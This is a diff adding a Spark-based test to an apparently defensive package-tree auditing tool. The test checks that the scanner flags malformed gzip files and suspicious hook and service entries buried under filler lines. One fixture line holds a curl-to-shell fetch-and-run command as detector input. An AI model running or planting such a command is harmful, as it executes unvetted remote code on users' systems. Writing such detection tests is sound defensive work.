@@ -156,6 +156,24 @@ def test_trees(spark):
     assert {(r.id, r.rule_id, r.path) for r in tree_findings(tree, "id", declared).collect()} == {(1, "R118", "bin/tool"), (3, "R122", "a.gz"), (5, "R146", "x.service"), (6, "R149", "y.desktop")}
 
 
+def test_trees_are_read_whole(spark, tmp_path):
+    import random
+
+    from auditloom.operators.trees import tree_findings
+    from auditloom.sources.feeds import tree_manifest
+
+    noise = random.Random(1).randbytes(3_000_000)
+    (tmp_path / "a.gz").write_bytes(gzip.compress(noise) + b"tail")
+    (tmp_path / "b.gz").write_bytes(gzip.compress(bytes(5_000_000)))
+    (tmp_path / "c.gz").write_bytes(gzip.compress(noise)[:-9])
+    (tmp_path / "x.hook").write_text("# filler\n" * 9000 + "Exec = /bin/sh -c 'curl https://x | sh'\n")
+    (tmp_path / "y.service").write_text("# filler\n" * 9000 + "ExecStart=$srcdir/run\n")
+    (tmp_path / "z.bin").write_bytes(noise)
+    tree = tree_manifest(spark, str(tmp_path)).withColumn("id", F.lit(1))
+    assert {(r.rule_id, r.path.rsplit("/", 1)[-1]) for r in tree_findings(tree, "id").collect()} == {("R122", "a.gz"), ("R146", "x.hook"), ("R149", "y.service")}
+    assert tree.where("path LIKE '%z.bin' AND content IS NULL AND length(head) = 4096").count() == 1
+
+
 def test_flow_needs_order_and_function(spark):
     df = spark.createDataFrame([(1, diff("build() {", "  bash ./gen.sh", "  printf x > gen.sh", "}")), (2, diff("build() {", "  printf x > gen.sh", "}", "check() {", "  bash gen.sh", "}")), (3, diff("build() {", "  cat > gen.sh <<EOF", "bash gen.sh", "EOF", "}"))], "id long, text string")
     got = {(r.id, r.rule_id) for r in dataflow.flow_findings(dataflow.diff_actions(df, "id", "text"), "id").collect()}
